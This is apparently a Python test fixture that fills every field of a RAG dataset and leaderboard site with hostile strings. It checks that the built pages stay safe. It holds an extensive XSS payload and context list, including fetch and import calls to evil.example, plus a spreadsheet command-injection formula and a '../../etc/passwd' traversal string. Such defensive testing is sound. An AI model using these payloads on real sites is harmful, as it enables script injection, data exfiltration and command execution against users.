"""An enemy's texts in every field that a team, a dataset or a web page may fill: payloads in contexts, and odd strings.

A vector that works sets `harmed`, opens a dialog or asks another address for something: each of them is seen.
"""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import fixture_board as made
from hostile_board import HOSTILE, LINKS, STRANGE
from whole_site import run_board

from edu_rag.files.dataset import Dataset
from edu_rag.files.dataset_writer import write_dataset
from edu_rag.gold import Gold
from edu_rag.records import QUESTION_FLAGS, Evidence, Question, SearchHit, Span, WebPage, page_id_of

PAYLOADS = (
    "window.harmed=1",
    "top['har'+'med']=1",
    "alert(1)",
    "fetch('//evil.example/x')",
    "import('https://evil.example/x.js')",
)
CONTEXTS = (
    # elements with a script in them
    "<script>{}</script>",
    "<ScRiPt/x>{}</sCrIpT >",
    "<<script>{}//<</script>",
    "<svg><script>{}</script></svg>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<template><script>{}</script></template>",
    '<script type="module">{}</script>',
    '<script src="data:text/javascript,{}"></script>',
    # handlers, of elements that need no click
    '<img src=x onerror="{}">',
    "<svg/onload={}>",
    '<body onload="{}">',
    '<details open ontoggle="{}">x</details>',
    '<input autofocus onfocus="{}">',
    '<video><source onerror="{}"></video>',
    '<audio src=x onerror="{}">',
    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    '<marquee onstart="{}">x</marquee>',
    '<style onload="{}"></style>',
    '<iframe onload="{}"></iframe>',
    '<xss style="animation:x" onanimationstart="{}">',
    # addresses that are scripts
    '<iframe src="javascript:{}"></iframe>',
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<a href="javascript:{}" autofocus>x</a>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<form action="javascript:{}"><button autofocus>x</button></form>',
    '<base href="javascript:{}//">',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<svg><use href="data:image/svg+xml,<svg onload={}>"/>',
    '<svg><a xlink:href="javascript:{}"><rect width=99 height=99 /></a></svg>',
    "javascript:{}",
    "JaVa\tScRiPt:{}",
    "\x01javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    # ways out of what a text may stand in
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" autofocus onfocus="{}" x="',
    "' onmouseover='{}",
    "</title><script>{}</script>",
    "</textarea></style></noscript><img src=x onerror={}>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "</script><script>{}</script>",
    '"}}];{}//',
    '\\";{}//',
    "*/{}/*",
    "\u2028{}\u2029",
    "`${{{}}}`",
    "{{{{constructor.constructor('{}')()}}}}",
    # what is decoded once too often
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
)
NAUGHTY = (
    *HOSTILE,
    "-1+1",
    "@SUM(A1)",
    "\r=1+1",
    "\n+1",
    ";=1+1",
    '"=1+1"',
    "=cmd|'/C calc'!A1",
    "%0A=1+1",
    "'=1+1",  # formulas
    "ΕDU-RАG аuthоrs",
    "Alwауs a",
    "rn\u200b\u200d\u2060m",
    "ﬁne",
    "ⒶⓁⓅⒽⒶ",
    "\u00adal\u00adpha",  # look-alikes
    "null",
    "undefined",
    "NaN",
    "-0",
    "1e400",
    "true",
    "__proto__",
    "constructor",
    "toString",
    "../../etc/passwd",
    "CON",
    ".",
    "..",
    "a/b\\c",
    "?q=1#x",
    "%00",
    "%",
    "\ufeffbom",
    "\ufffe\uffff",
    "\u0085\u00a0\u3000",
    "\U000e0041",
    "﷽" * 50,
    "ﷺ" * 300,
    "\u0e47" * 500,
    "\U0001f1e6" * 99,
    "¯\\_(ツ)_/¯",
    "́" * 900,
    "-" * 3_000,
    "\u00ad" * 3_000,
    "https://" + "a." * 2_000 + "example",
    "<b>" * 3_000,
    "&" * 3_000,
    "\"'" * 1_000,
)
GROUPS = (
    *(tuple(context.format(payload) for payload in PAYLOADS) for context in CONTEXTS),
    *((text,) for text in NAUGHTY),
)
"""What stands together: all payloads of a context, or one odd string."""
VECTORS = tuple(text for group in GROUPS for text in group)
SPLIT = "val"
STEP = 1 if os.environ.get("EDU_RAG_NIGHTLY") else 4
"""Groups that a system declares: by day four, since each pair of systems is compared. At night each has one alone."""
N_ANSWERING = 6
"""Systems whose answers are shown, each with a vector of every group as an answer."""
WHEN = datetime(2026, 1, 1, tzinfo=UTC)


def group_at(number: int) -> tuple[str, ...]:
    """The group of a number, round and round; never blank, since records are not."""
    group = GROUPS[number % len(GROUPS)]
    return group if group[0].strip() else ("blank",)


def text_at(number: int) -> str:
    """One of the group, for a field that is short."""
    group = group_at(number)
    return group[number % len(group)]


def all_at(number: int) -> str:
    """All of the group, for a field that may be long."""
    return "\n".join(group_at(number))


def _question(number: int) -> Question:
    return Question(
        question_id=f"q{number:04}<b>\"'&",
        text=all_at(number),
        choices={"a": text_at(number), "b": all_at(number + 1)},
        kind="multiple_choice",
        split=SPLIT,
        lesson=text_at(number - number % 6),
        flags=(QUESTION_FLAGS[number % len(QUESTION_FLAGS)],),
    )


def _page(number: int) -> WebPage:
    text = all_at(number)
    url = (*LINKS, *VECTORS)[number % (len(LINKS) + len(VECTORS))] + f"#{number}"
    return WebPage(
        page_id=page_id_of(url),
        url=url,
        title=text,
        text=f"{text} and more",
        sentences=(Span(0, len(text)),),
        fetched_at=WHEN,
        html_sha256="0" * 64,
        extractor=text[:200],
        language=text[:50],
        license=text,
        author=text,
        flags=("injection",),
    )


def _documents(*_: object) -> Mapping[str, bytes]:
    """What people write beside the tables: each vector is a line of it."""
    lines = "\n\n".join(f"- {text}" for text in VECTORS)
    found = {
        "README.md": f"---\nlicense: x\n---\n# Card\n\n{lines}\n",
        "CHANGES.md": f"# Changes\n\n## 1.0.0\n\n{lines}\n",
    }
    found["croissant.json"] = json.dumps({"name": VECTORS[0], "license": list(VECTORS)})
    return {name: text.encode("utf-8", "replace") for name, text in found.items()}


def write_exam(folder: Path) -> Dataset:
    """A question a group, with a page that is evidence, a kept hit and a dropped one."""
    questions = [_question(number) for number in range(len(GROUPS))]
    both = [(question, _page(number)) for number, question in enumerate(questions)]
    kept = [
        SearchHit(
            question_id=q.question_id,
            page_id=p.page_id,
            url=p.url,
            rank=1,
            engine=q.text[:100],
            query=q.text,
            searched_at=WHEN,
            outcome="kept",
        )
        for q, p in both
    ]
    dropped = [
        SearchHit(
            question_id=q.question_id,
            page_id=None,
            url=q.text,
            rank=2,
            engine=q.text[:100],
            query=q.text,
            searched_at=WHEN,
            outcome="robots",
        )
        for q in questions
    ]
    tables: dict[str, dict[str, Any]] = {
        "questions": {SPLIT: questions},
        "gold": {SPLIT: [Gold(question_id=q.question_id, answer="b") for q in questions]},
        "pages": {SPLIT: [page for _, page in both]},
        "hits": {SPLIT: kept + dropped},
        "evidence": {
            SPLIT: [
                Evidence(question_id=q.question_id, page_id=p.page_id, start=0, end=p.sentences[0].end, method=q.text)
                for q, p in both
            ]
        },
    }
    write_dataset(
        folder,
        tables,
        name="hostile",
        version="1.0.0",
        created_at="2026-01-01T00:00:00Z",
        builder=VECTORS[0],
        config_sha256="0" * 64,
        sources={text: {text: [text]} for text in VECTORS},
        documents=_documents,
    )
    return Dataset(folder)


def _predictions(questions: Sequence[Question], shift: int) -> bytes:
    lines = []
    for number, question in enumerate(questions):
        page, text = _page(number), text_at(number + shift)
        lines.append(
            {
                "question_id": question.question_id,
                "answer": text,
                "response": text,
                "confidence": 0.5,
                "passages": [[page.page_id, 0, 9], [text, 0, 5]],
            }
        )
    return b"".join(json.dumps(line).encode() + b"\n" for line in lines)


def _card(number: int, dataset: Dataset, n: int, predictions: bytes | None) -> made.ScoreCard:
    """The groups of a step rotate through the declared fields, and the next step starts one field later; each second
    system is withdrawn, in words of two groups.
    """
    step = [number + (number // STEP + at) % STEP for at in range(STEP)]
    text, text_b, text_c, text_d = (text_at(step[at % STEP]) for at in range(4))
    every, every_b, every_c = (all_at(step[at % STEP]) for at in range(3))
    groups = tuple(one for at in sorted(step) for one in group_at(at))
    counts = made.Counts(correct=3, incorrect=1)
    return made.card_of(
        f"hostile-{number:03d}",
        made.outcomes_of((40, 30, 20, 5, 5), n, number),
        dataset=dataset.id,
        split=SPLIT,
        name=text,
        team=text_b,
        contact=text_c,
        licence=text_d,
        harness=text_d,
        interval_method=text_c,
        description=every,
        outside_knowledge=every_b,
        tqa_overlap=every_c,
        models=groups,
        links=(*(group_at(at)[0] for at in sorted(step)), *LINKS, *groups),  # a page shows twenty
        withdrawn=f"{every} {all_at(number - 1)}" if number // STEP % 2 else "",
        blind=number // STEP % 5 == 0,
        runnable=number // STEP % 3 == 0,
        confidence={text_d: list(groups)},
        judges={text_b: {text_c: 1}},
        probes={text: every_b},
        exam={"questions": text},
        cost={"latency_s": {"median": 0.1 + number, "source": text}} | {one: {one: one} for one in groups},
        retrieval={one: [one] for one in groups} | {"recall@10": 0.3},
        # The board ranks again without the questions of each list: a third of the build's time with 124 lists.
        overlap=made.overlap_of(n, number, number % 7 / 8) if number // STEP % 16 == 3 else "",
        slices=tuple(
            made.Slice(attribute=one, value=value, counts=counts) for value in groups for one in (value, "kind")
        ),
        predictions_sha256="" if predictions is None else hashlib.sha256(predictions).hexdigest(),
        **dict(STRANGE[number // STEP % len(STRANGE)](text)),
    )


def write_results(results: Path, dataset: Dataset) -> None:
    """A system for each step of groups; some of them answered every question, each time with another vector."""
    questions = dataset.questions(SPLIT)
    for number in range(0, len(GROUPS), STEP):
        predictions = _predictions(questions, number) if number < N_ANSWERING * STEP else None
        made.write_card(results, _card(number, dataset, len(questions), predictions), predictions)


def build_hostile(folder: Path) -> Path:
    """The site of all that below a folder."""
    dataset = write_exam(folder / "dataset")
    write_results(folder / "results", dataset)
    return run_board(folder / "results", folder / "site", [dataset.folder])
